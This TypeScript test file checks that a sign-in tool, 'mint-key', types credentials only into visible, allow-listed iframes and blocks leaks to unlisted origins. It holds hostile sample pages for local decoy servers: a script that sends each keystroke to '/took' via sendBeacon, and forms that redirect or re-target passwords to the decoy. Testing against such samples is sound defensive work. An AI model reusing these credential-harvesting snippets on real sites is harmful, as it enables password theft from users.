import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { strFromU8, unzipSync } from 'fflate';
import type { StandIn } from '../../stand-in/stand-in.ts';
import { startDecoy } from '../faults/fault-proxy.ts';
import { spell } from '../find-leaks.ts';
import { credentials, expect, test } from '../fixtures.ts';
import { type Answer, SIGN_IN, servePortal } from './serve-portal.ts';
import {
  ask,
  DONE,
  PERSON,
  redirect,
  type StrangeProvider,
  serveProvider,
  withBody,
} from './serve-provider.ts';
import { startWebSocketServer } from './serve-web-sockets.ts';

// Providers whose pages ask in a frame. Of another site is what is known by another host name, and has here a process of its
// own; what differs in its port alone is another origin of the same site, and shares one with the page around it.

test.use({ sharesBrowser: true, isolatesSites: true });

const WORDS = ['--timeout', '60s'];
const NAME = `username=${encodeURIComponent(PERSON.username)}`;
const PASSWORD = `password=${PERSON.password}`;
const CODE = expect.stringMatching(/^POST \/take code=\d{6}$/);

/** @returns an address of the same server, at another site */
const apart = (url: string) => url.replace('127.0.0.1', 'localhost');

type Files = Readonly<Record<string, Answer>>;

const frame = (url: string, attributes = 'width="600" height="400"') =>
  `<iframe src="${url}" ${attributes}></iframe>`;

/** @returns a page that shows something else, and sends a form once a frame says that it is done */
const around = (
  ...frames: readonly string[]
) => `<!doctype html><title>Fake</title><h1>One more step</h1><button>Help</button>
  ${frames.join('')}<form method="post" action="/back"><input type="hidden" name="proof" value="fake-proof"></form>
  <script>onmessage = ({ data }) => { if (data === 'done') document.forms[0].submit(); };</script>`;

const TELL_PARENT = `<p>Done</p><script>parent.postMessage('done', '*');</script>`;
const BACK: Files = { '/back': redirect(303, DONE) };
const PROOF = 'POST /back proof=fake-proof';
const TYPED = [`POST /take ${PASSWORD}`];

/** Something served at two origins: that of a page, and that of a frame in it. */
interface Framed extends AsyncDisposable {
  readonly outer: StrangeProvider;
  readonly inner: StrangeProvider;
  /** Where the frame is served from. */
  readonly origin: string;
}

/** @param place turns the frame's address into the one that it is shown from */
async function serveFramed(
  startServer: () => Promise<StandIn>,
  outer: (origin: string) => Files,
  inner: Files,
  place: (url: string) => string = apart,
): Promise<Framed> {
  const server = await startServer();
  const within = await serveProvider(server, inner);
  const origin = place(within.url);
  const page = await serveProvider(server, { ...BACK, ...outer(origin) });
  return {
    outer: page,
    inner: within,
    origin,
    [Symbol.asyncDispose]: async () => {
      await Promise.all([page, within].map((each) => each[Symbol.asyncDispose]()));
    },
  };
}

const list = ({ env }: StrangeProvider, ...origins: readonly string[]) => ({
  ...env,
  OCTOPUS_SSO_ORIGINS: [env.OCTOPUS_SSO_ORIGINS, ...origins].join(','),
});

for (const [where, place] of Object.entries({
  'of another site': apart,
  'of its own site': (url: string) => url,
}))
  test(`what a listed frame ${where} asks for is typed there, and nowhere else`, {
    tag: where === 'of another site' ? [] : '@extended',
  }, async ({ startServer, runCommand }) => {
    await using framed = await serveFramed(
      startServer,
      (origin) => ({ '/': ask('user name and password'), '/take': around(frame(`${origin}/`)) }),
      { '/': ask('one-time code'), '/take': TELL_PARENT },
      place,
    );
    const { code, stderr } = await runCommand('mint-key', {
      env: list(framed.outer, framed.origin),
      words: WORDS,
    });

    expect(code, stderr).toBe(0);
    expect(withBody(framed.outer.heard)).toEqual([`POST /take ${NAME}&${PASSWORD}`, PROOF]);
    expect(withBody(framed.inner.heard)).toEqual([CODE]);
  });

test('a frame within a frame is typed into where all around it are listed', { tag: '@extended' }, async ({
  startServer,
  runCommand,
}) => {
  const server = await startServer();
  await using innermost = await serveProvider(server, {
    '/': ask('password'),
    '/take': `<script>top.postMessage('done', '*');</script>`,
  });
  await using framed = await serveFramed(startServer, (origin) => ({ '/': around(frame(`${origin}/`)) }), {
    '/': `<h1>Within</h1>${frame(`${innermost.url}/`)}`,
  });
  const env = list(framed.outer, framed.origin, innermost.url);
  const { code, stderr } = await runCommand('mint-key', { env, words: WORDS });

  expect(code, stderr).toBe(0);
  expect(withBody(innermost.heard)).toEqual(TYPED);
  expect(withBody(framed.inner.heard)).toEqual([]);
  expect(withBody(framed.outer.heard)).toEqual([PROOF]);
});

test('of two listed frames the larger is typed into, and where the page itself asks, none', {
  tag: '@extended',
}, async ({ startServer, runCommand }) => {
  await using framed = await serveFramed(
    startServer,
    (origin) => ({
      // The page draws what it asks for itself a moment later.
      '/': `${frame(`${origin}/never`)}<template>${ask('user name')}</template><script>
        const draw = () => document.body.append(document.querySelector('template').content);
        document.querySelector('iframe').onload = () => setTimeout(draw, 150);
      </script>`,
      '/take': around(
        frame(`${origin}/small`, 'width="300" height="100"'),
        frame(`${origin}/large`),
        frame(`${origin}/middle`, 'width="400" height="200"'),
      ),
    }),
    {
      '/never': ask('password', '', 'method="post" action="/taken-beside-the-page"'),
      '/small': ask('password', '', 'method="post" action="/taken-in-small"'),
      '/middle': ask('password', '', 'method="post" action="/taken-in-middle"'),
      '/large': ask('password', '', 'method="post" action="/taken-in-large"'),
      '/taken-in-large': TELL_PARENT,
    },
  );
  const { code, stderr } = await runCommand('mint-key', {
    env: list(framed.outer, framed.origin),
    words: WORDS,
  });

  expect(code, stderr).toBe(0);
  expect(withBody(framed.outer.heard)).toEqual([`POST /take ${NAME}`, PROOF]);
  expect(withBody(framed.inner.heard)).toEqual([`POST /taken-in-large ${PASSWORD}`]);
});

const hidden: Readonly<Record<string, (url: string) => string>> = {
  'of no size': (url) => frame(url, 'width="0" height="0"'),
  'of one pixel': (url) => frame(url, 'width="1" height="1"'),
  'too small for a field': (url) => frame(url, 'width="40" height="15"'),
  'that is not displayed': (url) => frame(url, 'style="display:none"'),
  'that is invisible': (url) => frame(url, 'style="visibility:hidden"'),
  'that one sees through': (url) => frame(url, 'style="opacity:0"'),
  'off the page': (url) => frame(url, 'style="position:absolute;left:-9999px"'),
  'cut off by what is around it': (url) =>
    `<div style="overflow:hidden;width:0;height:0">${frame(url)}</div>`,
  'cut off by what it is placed in': (url) =>
    `<div style="overflow:hidden;width:1px;height:1px;position:relative">${frame(url, 'style="position:absolute"')}</div>`,
};

test('listed frames that nobody sees are not typed into, however they are hidden', async ({
  startServer,
  runCommand,
}) => {
  await using framed = await serveFramed(
    startServer,
    (origin) => ({
      '/': `<h1>One moment</h1>${Object.keys(hidden)
        .map((_, index) => Object.values(hidden)[index]?.(`${origin}/${index}`))
        .join('')}<script>setTimeout(() => { location = '/name'; }, 3000);</script>`,
      '/name': ask('user name'),
      '/take': redirect(303, DONE),
    }),
    Object.fromEntries(
      Object.keys(hidden).map((_, index) => [
        `/${index}`,
        ask('user name', '', `method="post" action="/taken-${index}"`),
      ]),
    ),
  );
  const { code, stderr } = await runCommand('mint-key', {
    env: list(framed.outer, framed.origin),
    words: WORDS,
  });

  expect(code, stderr).toBe(0);
  expect(withBody(framed.inner.heard)).toEqual([]);
  expect(withBody(framed.outer.heard)).toEqual([`POST /take ${NAME}`]);
});

test('a frame that is cut off by nothing that it is placed in is seen', { tag: '@extended' }, async ({
  startServer,
  runCommand,
}) => {
  await using framed = await serveFramed(
    startServer,
    (origin) => ({
      '/': around(
        `<div style="overflow:hidden;width:0;height:0">${frame(`${origin}/`, 'style="position:fixed;top:0;left:0;width:600px;height:400px"')}</div>`,
      ),
    }),
    { '/': ask('password'), '/take': TELL_PARENT },
  );
  const { code, stderr } = await runCommand('mint-key', {
    env: list(framed.outer, framed.origin),
    words: WORDS,
  });

  expect(code, stderr).toBe(0);
  expect(withBody(framed.inner.heard)).toEqual(TYPED);
});

test('a frame that is not listed gets nothing, and is named with what it asks for: exit 4', async ({
  startServer,
  runCommand,
}) => {
  await using framed = await serveFramed(startServer, (origin) => ({ '/': around(frame(`${origin}/`)) }), {
    '/': ask('password', `input.oninput = () => fetch('/took');`),
    '/take': TELL_PARENT,
  });
  const { code, stderr } = await runCommand('mint-key', { env: framed.outer.env, words: WORDS });

  expect(code, stderr).toBe(4);
  expect(stderr).toContain(
    `asks for password in a frame of ${framed.origin}, which is not listed, and nothing was typed there`,
  );
  expect(stderr).toContain(`--sso-origin ${framed.origin}`);
  expect(framed.inner.heard.filter((line) => !line.startsWith('GET / '))).toEqual([]);
  expect(withBody(framed.outer.heard)).toEqual([]);
});

test('a frame that is not listed is no hindrance where the page goes on by itself', {
  tag: '@extended',
}, async ({ startServer, runCommand }) => {
  await using framed = await serveFramed(
    startServer,
    (origin) => ({
      '/': `<h1>One moment</h1>${frame(`${origin}/`)}<script>setTimeout(() => { location = '/name'; }, 1500);</script>`,
      '/name': ask('user name'),
      '/take': redirect(303, DONE),
    }),
    { '/': ask('password') },
  );
  const { code, stderr } = await runCommand('mint-key', { env: framed.outer.env, words: WORDS });

  expect(code, stderr).toBe(0);
  expect(withBody(framed.inner.heard)).toEqual([]);
});

test('a form in a frame that is sent over the whole page brings the browser on', {
  tag: '@extended',
}, async ({ startServer, runCommand }) => {
  await using framed = await serveFramed(startServer, (origin) => ({ '/': around(frame(`${origin}/`)) }), {
    '/': ask('password', '', 'method="post" action="/take" target="_top"'),
    '/take': (_, outgoing) => redirect(303, framed.outer.url + DONE)(_, outgoing),
  });
  const { code, stderr } = await runCommand('mint-key', {
    env: list(framed.outer, framed.origin),
    words: WORDS,
  });

  expect(code, stderr).toBe(0);
  expect(withBody(framed.inner.heard)).toEqual(TYPED);
});

for (const [where, isNested] of Object.entries({ 'A page': false, 'A frame': true }))
  test(`${where} that is not listed and shows a frame that is gets nothing typed in it, and is named: exit 4`, {
    tag: !isNested ? [] : '@extended',
  }, async ({ startServer, runCommand }) => {
    const server = await startServer();
    await using listed = await serveProvider(server, { '/': ask('password'), '/take': TELL_PARENT });
    await using framed = await serveFramed(
      startServer,
      (origin) => ({ '/': isNested ? around(frame(`${origin}/`)) : redirect(303, `${origin}/`) }),
      { '/': around(frame(`${listed.url}/`)) },
    );
    const env = list(framed.outer, listed.url);
    const { code, stderr } = await runCommand('mint-key', { env, words: WORDS });

    expect(code, stderr).toBe(4);
    expect(stderr).toContain(
      `asks for password in a frame of ${listed.url} within a page of ${framed.origin}, which is not listed, and nothing was typed there`,
    );
    expect(stderr).toContain(`--sso-origin ${framed.origin}`);
    expect(withBody(listed.heard)).toEqual([]);
  });

interface Away {
  readonly files: (decoy: string) => Files;
  /** What of its own the frame was given before it went wrong. */
  readonly given: readonly string[];
  readonly says: (framed: Framed, decoy: string) => string;
}

const leaveOnFocus = (deed: string) =>
  `form.onsubmit = () => false; addEventListener('focus', () => { ${deed}; }, true);`;

const ways: Readonly<Record<string, Away>> = {
  'has a form that leads there': {
    files: (decoy) => ({ '/': ask('password', '', `method="post" action="${decoy}/took"`) }),
    given: [],
    says: ({ origin }, decoy) =>
      `the form of ${origin}/ sends what is typed to ${decoy}, which is not listed, and was not filled in`,
  },
  'turns its form round when it is sent': {
    files: (decoy) => ({ '/': ask('password', `form.onsubmit = () => { form.action = '${decoy}/took'; };`) }),
    given: [],
    says: (_, decoy) =>
      `the page was about to send the password to ${decoy}, which is not listed, and was stopped`,
  },
  'sends its form over the whole page': {
    files: (decoy) => ({
      '/': ask('password', `form.onsubmit = () => { form.action = '${decoy}/took'; form.target = '_top'; };`),
    }),
    given: [],
    says: (_, decoy) =>
      `the page was about to send the password to ${decoy}, which is not listed, and was stopped`,
  },
  'answers its form with 307': {
    files: (decoy) => ({ '/': ask('password'), '/take': redirect(307, `${decoy}/took`) }),
    given: TYPED,
    says: ({ origin }, decoy) =>
      `the password was given to ${origin}/take, which redirected it to ${decoy}/took, and it was not sent there`,
  },
  'goes there itself when it is typed into': {
    files: (decoy) => ({
      '/': ask('password', leaveOnFocus(`location = '${decoy}/page'`)),
    }),
    given: [],
    says: (_, decoy) => `asks for user name and password in a frame of ${decoy}, which is not listed`,
  },
  'is sent there by the page around it when it is typed into': {
    files: () => ({
      '/': ask('password', leaveOnFocus("parent.postMessage('now', '*')")),
    }),
    given: [],
    says: (_, decoy) => `asks for user name and password in a frame of ${decoy}, which is not listed`,
  },
};

const TELL = `<script>
  document.querySelector('[type=password]').focus();
  addEventListener('input', ({ target }) => navigator.sendBeacon('/took', target.value), true);
</script>`;

for (const [how, { files, given, says }] of Object.entries(ways))
  test(`a listed frame that ${how} takes the password to no origin that is not listed: exit 4, saying what went where`, {
    tag: how === 'answers its form with 307' ? [] : '@extended',
  }, async ({ startServer, runCommand }) => {
    await using decoy = await startDecoy(
      `<form><input name="username"><input type="password" name="password"><button>Sign in</button></form>${TELL}`,
    );
    await using framed = await serveFramed(
      startServer,
      (origin) => ({
        '/': `${around(frame(`${origin}/`))}<script>
          addEventListener('message', ({ data }) => {
            if (data === 'now') document.querySelector('iframe').src = '${decoy.url}/page';
          });
        </script>`,
      }),
      files(decoy.url),
      (url) => url,
    );
    const { code, stderr } = await runCommand('mint-key', {
      env: list(framed.outer, framed.origin),
      words: WORDS,
    });

    expect(decoy.heard.join('\n'), stderr).not.toMatch(/\/took/);
    expect(decoy.heard.join('\n')).not.toContain(PERSON.password);
    expect(withBody(framed.inner.heard)).toEqual(given);
    expect(withBody(framed.outer.heard)).toEqual([]);
    expect(code, stderr).toBe(4);
    expect(stderr).toContain(says(framed, decoy.url));
  });

test('a frame that asks who it is, and sends it to an origin that is not listed a while later, is stopped: exit 4', {
  tag: '@extended',
}, async ({ startServer, runCommand }) => {
  await using decoy = await startDecoy();
  const later = `form.onsubmit = (event) => {
    event.preventDefault();
    setTimeout(() => { form.action = '${decoy.url}/took'; form.submit(); }, 700);
  };`;
  await using framed = await serveFramed(startServer, (origin) => ({ '/': around(frame(`${origin}/`)) }), {
    '/': ask('user name', later),
  });
  const { code, stderr } = await runCommand('mint-key', {
    env: list(framed.outer, framed.origin),
    words: WORDS,
  });

  expect(decoy.heard, stderr).toEqual([]);
  expect(code, stderr).toBe(4);
  expect(stderr).toContain(
    `the page was about to send the user name to ${decoy.url}, which is not listed, and was stopped`,
  );
});

test('a frame that refuses the password is named with its words: exit 4', { tag: '@extended' }, async ({
  startServer,
  runCommand,
}) => {
  await using framed = await serveFramed(startServer, (origin) => ({ '/': around(frame(`${origin}/`)) }), {
    '/': ask('password'),
    '/take': `<p role="alert">Fake: that is not it.</p>${ask('password')}`,
  });
  const { code, stderr } = await runCommand('mint-key', {
    env: list(framed.outer, framed.origin),
    words: WORDS,
  });

  expect(withBody(framed.inner.heard), stderr).toEqual(TYPED);
  expect(code, stderr).toBe(4);
  expect(stderr).toContain(
    `the password was not taken (${framed.origin}/take). The provider says: Fake: that is not it.`,
  );
});

test('a form in a frame that would be sent by GET is not loaded anew where a message has left the frame: exit 4', {
  tag: '@extended',
}, async ({ startServer, runCommand }) => {
  await using sockets = await startWebSocketServer();
  const send = `const socket = new WebSocket('${sockets.url}'); form.onsubmit = () => socket.send('fake message');`;
  await using framed = await serveFramed(startServer, (origin) => ({ '/': around(frame(`${origin}/`)) }), {
    '/': ask('one-time code', send, 'action="/take"'),
  });
  const { code, stderr } = await runCommand('mint-key', {
    env: list(framed.outer, framed.origin),
    words: WORDS,
  });

  expect(sockets.heard, stderr).toEqual(['fake message']);
  expect(framed.inner.heard.filter((line) => line.includes('/take'))).toEqual([]);
  expect(code, stderr).toBe(4);
  expect(stderr).toContain('something else was sent');
});

test('a form in a frame, in a charset in which no password is known again, takes it to no other origin by a redirect: exit 4', {
  tag: '@extended',
}, async ({ startServer, runCommand }) => {
  await using decoy = await startDecoy();
  await using framed = await serveFramed(startServer, (origin) => ({ '/': around(frame(`${origin}/`)) }), {
    '/': (_, outgoing) =>
      void outgoing.writeHead(200, { 'content-type': 'text/html; charset=iso-8859-7' }).end(ask('password')),
    '/take': redirect(307, `${decoy.url}/took`),
  });
  const env = { ...list(framed.outer, framed.origin), OCTOPUS_PASSWORD: 'Fake-κλειδί' };
  const { code, stderr } = await runCommand('mint-key', { env, words: WORDS });

  expect(decoy.heard, stderr).toEqual([]);
  expect(withBody(framed.inner.heard)).toHaveLength(1);
  expect(code, stderr).toBe(4);
  expect(stderr).toContain(`which redirected it to ${decoy.url}/took`);
});

for (const [where, place] of Object.entries({
  'of another site': apart,
  'of its own site': (url: string) => url,
}))
  test(`a frame ${where} that breaks the connection is sent the password once: exit 4, saying that it got no reply`, {
    tag: '@extended',
  }, async ({ startServer, runCommand }) => {
    await using framed = await serveFramed(
      startServer,
      (origin) => ({ '/': around(frame(`${origin}/`)) }),
      { '/': ask('password'), '/take': ({ socket }) => void socket.resetAndDestroy() },
      place,
    );
    const { code, stderr } = await runCommand('mint-key', {
      env: list(framed.outer, framed.origin),
      words: WORDS,
    });

    expect(withBody(framed.inner.heard), stderr).toEqual(TYPED);
    expect(code, stderr).toBe(4);
    expect(stderr).toMatch(/the password got no reply .*it is not submitted again/);
  });

test('a form in a frame whose script is late puts no one-time code into an address: it is sent once, and the key is made', {
  tag: '@extended',
}, async ({ startServer, runCommand }) => {
  await using framed = await serveFramed(startServer, (origin) => ({ '/': around(frame(`${origin}/`)) }), {
    '/': `<script src="/late.js" async></script>${ask('one-time code', '', 'action="/take"')}`,
    '/late.js': (_, outgoing) =>
      void setTimeout(
        () =>
          outgoing
            .writeHead(200, { 'content-type': 'text/javascript', 'cache-control': 'no-store' })
            .end("document.forms[0].method = 'post';"),
        1_000,
      ),
    '/take': TELL_PARENT,
  });
  const env = list(framed.outer, framed.origin);
  const { code, stderr } = await runCommand('mint-key', { env, words: ['--timeout', '60s'] });

  expect(code, stderr).toBe(0);
  expect(withBody(framed.inner.heard)).toEqual([CODE]);
  expect(framed.inner.heard.filter((line) => line.includes('?'))).toEqual([]);
});

test('a frame in the portal, of a listed provider, is typed into', { tag: '@extended' }, async ({
  startServer,
  runCommand,
}) => {
  const server = await startServer();
  const proof = new URLSearchParams({ username: server.username, password: server.password });
  await using provider = await serveProvider(server, {
    '/': ask('user name and password'),
    '/take': (_, outgoing) => redirect(303, `${portal.url}${SIGN_IN}?${proof}`)(_, outgoing),
  });
  const button = `<button onclick="document.body.innerHTML = '<iframe width=600 height=400 src=${provider.url}/></iframe>'">Sign in with Fake</button>`;
  await using portal = await servePortal(server, button);
  const env = { ...provider.env, OCTOPUS_URL: portal.url };
  const { code, stderr } = await runCommand('mint-key', { env, words: WORDS });

  expect(code, stderr).toBe(0);
  expect(withBody(provider.heard)).toEqual([`POST /take ${NAME}&${PASSWORD}`]);
});

test("the portal's own form in a frame is not typed into, whether the portal or a provider shows it: exit 4", {
  tag: '@extended',
}, async ({ startServer, runCommand }) => {
  const server = await startServer();
  const form = ask('user name and password', '', `method="post" action="${SIGN_IN}"`);
  await using portal = await servePortal(
    server,
    (url) => `${frame(`${url}/form`)}<a href="${provider.url}/">Sign in with Fake</a>`,
    { '/form': form },
  );
  await using provider = await serveProvider(server, {
    '/': (_, outgoing) =>
      void outgoing.writeHead(200, { 'content-type': 'text/html' }).end(around(frame(`${portal.url}/form`))),
  });
  const env = { ...provider.env, OCTOPUS_URL: portal.url };
  const byProvider = await runCommand('mint-key', { env, words: ['--timeout', '25s'] });
  const byForm = await runCommand('mint-key', {
    env: { ...credentials(server), OCTOPUS_URL: portal.url },
    words: ['--timeout', '12s'],
  });

  expect(byProvider.code, byProvider.stderr).toBe(4);
  expect(byProvider.stderr).toContain('it asks for nothing that is known');
  expect(byForm.code, byForm.stderr).toBe(4);
  expect(portal.submitted).toEqual([]);
});

test('a trace of a sign-in in a frame shows the frame, and no secret of it', { tag: '@extended' }, async ({
  startServer,
  runCommand,
  folder,
}) => {
  const token = 'Fake-token-of-the-frame-0123456789';
  const cookie = 'Fake-cookie-of-the-frame-0123456789';
  await using framed = await serveFramed(startServer, (origin) => ({ '/': around(frame(`${origin}/`)) }), {
    '/': ask('password').replace('<button>', `<input type="hidden" name="x-flow" value="${token}"><button>`),
    '/take': (_, outgoing) =>
      void outgoing
        .writeHead(200, { 'content-type': 'text/html', 'set-cookie': `flow=${cookie}` })
        .end(`<h1>Give your code</h1>${ask('one-time code', '', 'method="post" action="/code"')}`),
    '/code': TELL_PARENT,
  });
  const { code, stderr } = await runCommand('mint-key', {
    env: list(framed.outer, framed.origin),
    words: [...WORDS, '--trace', 'trace.zip'],
  });
  const parts = unzipSync(await readFile(join(folder, 'trace.zip')));
  const texts = [stderr, ...Object.values(parts).map((bytes) => strFromU8(bytes))];
  const [password, oneTimeCode] = withBody(framed.inner.heard);
  const digits = /\d{6}$/.exec(oneTimeCode ?? '')?.[0] ?? '';
  const leaks = [PERSON.password, token, cookie].filter((secret) =>
    spell(secret).some((spelling) => texts.some((text) => text.includes(spelling))),
  );

  expect(code, stderr).toBe(0);
  expect(password).toBe(`POST /take ${PASSWORD}&x-flow=${token}`);
  expect(texts.some((text) => text.includes(`"frameUrl":"${framed.origin}/"`))).toBe(true);
  expect(leaks).toEqual([]);
  expect(digits).toHaveLength(6);
  // Some digits stand in a time of its, too.
  expect(texts.filter((text) => new RegExp(`[">=]${digits}["<&]`).test(text))).toEqual([]);
});
